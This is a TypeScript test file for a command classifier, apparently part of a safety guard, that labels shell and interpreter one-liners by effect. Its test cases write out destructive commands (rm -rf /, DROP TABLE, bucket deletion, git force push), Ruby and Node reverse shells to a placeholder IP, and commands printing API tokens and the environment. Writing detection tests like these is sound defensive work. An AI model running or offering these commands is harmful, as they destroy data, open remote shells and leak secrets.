import assert from "node:assert/strict";
import { test } from "node:test";
import { classifyCommand, idsOf, seriousEffects } from "../classify-command.ts";

interface Case {
  readonly command: string;
  /** What must be among the actions. */
  readonly actions: readonly string[];
}

const judged: readonly Case[] = [
  // Names under which a library is loaded.
  { command: `python3 -c "import subprocess as sp; sp.run(['rm','-rf','/'])"`, actions: ["fs:delete"] },
  { command: `python3 -c "from shutil import rmtree as r; r('/home')"`, actions: ["fs:delete"] },
  { command: `node -e "const {exec: e} = require('child_process'); e('rm -rf /')"`, actions: ["fs:delete"] },
  // Texts that are put together.
  {
    command: `python3 - <<'E'\npath = "/home"\nimport os\nos.system(f"rm -rf {path}")\nE`,
    actions: ["fs:delete"],
  },
  {
    command: `python3 - <<'E'\nimport subprocess\ncmd = ["git", "push"]\ncmd.append("--force")\nsubprocess.run(cmd)\nE`,
    actions: ["git:push_force"],
  },
  { command: `python3 -c "import os; os.system('rm -rf {}'.format('/home'))"`, actions: ["fs:delete"] },
  {
    command: `python3 -c "exec('import os; os.system(\\'git reset --hard\\')')"`,
    actions: ["git:reset_hard"],
  },
  // What is gone through.
  {
    command: `python3 -c "import os,glob; list(map(os.remove, glob.glob('/var/log/*')))"`,
    actions: ["fs:delete"],
  },
  { command: `ruby -e 'Dir["/srv/*"].each { |f| File.unlink f }'`, actions: ["fs:delete"] },
  { command: `php -r 'array_map("unlink", glob("/var/www/*"));'`, actions: ["fs:delete"] },
  // What is received, or made by a method that nobody knows here.
  {
    command: `ruby -rsocket -e 'c=TCPSocket.new("203.0.113.1",4444);while(l=c.gets);IO.popen(l,"r"){|io|c.print io.read};end'`,
    actions: ["shell:opaque"],
  },
  { command: `ruby -e 'system("foo".decode)'`, actions: ["shell:opaque"] },
  { command: `perl -e 'system$_ while<>'`, actions: ["shell:opaque"] },
  {
    command: `node -e "require('net').connect(1, 'h').on('data', (d) => require('child_process').exec(d.toString()))"`,
    actions: ["shell:opaque"],
  },
  // Calls that are a command by another name.
  { command: `python3 -c "import os, signal; os.kill(1, signal.SIGKILL)"`, actions: ["process:kill"] },
  { command: `node -e "process.kill(1)"`, actions: ["process:kill"] },
  { command: `ruby -e 'Process.kill(9, 1)'`, actions: ["process:kill"] },
  { command: `perl -e 'kill 9, 1'`, actions: ["process:kill"] },
  { command: `php -r 'posix_kill(1, 9);'`, actions: ["process:kill"] },
  { command: `python3 -c "import git; git.Repo('.').git.reset('--hard')"`, actions: ["git:reset_hard"] },
  { command: `python3 -c "import git; git.Repo('.').git.push(force=True)"`, actions: ["git:push_force"] },
  {
    command: `python3 -c "from git import Repo; Repo('.').head.reset(index=True, working_tree=True)"`,
    actions: ["git:reset_hard"],
  },
  {
    command: `node -e "require('simple-git')().raw(['push','--force'])"`,
    actions: ["git:push_force"],
  },
  { command: `node -e "require('simple-git')().reset('hard')"`, actions: ["git:reset_hard"] },
  // A short text in quotes does not put the reader out of step.
  {
    command: `python3 -c "import fabric; fabric.Connection('web').run('rm -rf /')"`,
    actions: ["fs:delete"],
  },
  // Files that Perl opens to write.
  { command: `perl -e 'open(F, ">", "/etc/passwd")'`, actions: ["fs:write"] },
  { command: `perl -e 'open(F, ">>/etc/passwd")'`, actions: ["fs:write"] },
  { command: `perl -e 'open(my $f, ">:utf8", "/etc/passwd")'`, actions: ["fs:write"] },
  // Stored data.
  {
    command: `python3 -c "import psycopg2; c.execute('DROP TABLE users')"`,
    actions: ["postgres:drop_table"],
  },
  { command: `node -e "require('ioredis'); r.flushall()"`, actions: ["redis:flush"] },
  // Requests and clouds' libraries.
  {
    command: `perl -MLWP::UserAgent -e 'LWP::UserAgent->new->delete("https://api.heroku.com/apps/web")'`,
    actions: ["heroku:app_destroy"],
  },
  {
    command: `ruby -e 'require "aws-sdk-s3"; Aws::S3::Client.new.delete_bucket(bucket: "b")'`,
    actions: ["aws:s3:DeleteBucket"],
  },
  {
    command: `php -r '$s = new Aws\\S3\\S3Client([]); $s->deleteBucket(["Bucket" => "b"]);'`,
    actions: ["aws:s3:DeleteBucket"],
  },
  {
    command: `node -e "new (require('@aws-sdk/client-s3').S3Client)().send(new (require('@aws-sdk/client-s3').DeleteBucketCommand)({Bucket:'b'}))"`,
    actions: ["aws:s3:DeleteBucket"],
  },
  {
    command: `python3 -c "import requests; requests.delete('https://api.example.com/v1/a')"`,
    actions: ["http:delete"],
  },
  {
    command: `node -e "fetch('https://api.render.com/v1/services/srv-1', {method: 'DELETE'})"`,
    actions: ["render:service_delete"],
  },
  {
    command: `python3 -c "from google.cloud import storage; b.delete(force=True)"`,
    actions: ["gcp:sdk_delete"],
  },
  // The environment.
  {
    command: `python3 -c "import os; print(os.environ['API_TOKEN'])"`,
    actions: ["process:print_variable"],
  },
  {
    command: `node -e "Object.entries(process.env).forEach(console.log)"`,
    actions: ["process:print_environment"],
  },
];

const harmless: readonly string[] = [
  `python3 -c "import shutil, pathlib; [shutil.rmtree(p) for p in pathlib.Path('.').rglob('__pycache__')]"`,
  `python3 - <<'E'\nimport tempfile, shutil\nd = tempfile.mkdtemp()\nshutil.rmtree(d)\nE`,
  `python3 -c "import subprocess, sys; subprocess.run([sys.executable, '-m', 'pytest'])"`,
  `python3 -c "c.execute('SELECT count(*) FROM users')"`,
  `python3 -c "import os; print(os.environ.get('API_TOKEN') is not None)"`,
  `node -e "const m = new Map(); m.delete('a'); m.clear()"`,
  `node -e "fetch('https://registry.npmjs.org/react').then((r) => r.json())"`,
  `perl -e 'open(F, "<", "a.txt"); print <F>;'`,
  `perl -e 'open my $f, "<", $ARGV[0]; print <$f>;' a.txt`,
  `ruby -e 'IO.popen("git status", "r") { |io| puts io.read }'`,
  `python3 -c "import subprocess; print(subprocess.check_output(['ls']).decode('utf-8'))"`,
  `node -e "const m = /a(b)/.exec(process.argv[1])" x`,
];

for (const { command, actions } of judged) {
  test(`code does what it says: ${command}`, () => {
    const ids = idsOf(classifyCommand(command));
    for (const action of actions) {
      assert.ok(ids.includes(action), `gives ${ids.join(", ") || "nothing"}`);
    }
  });
}

for (const command of harmless) {
  test(`code is harmless: ${command}`, () => {
    assert.deepEqual(seriousEffects(classifyCommand(command)), []);
  });
}
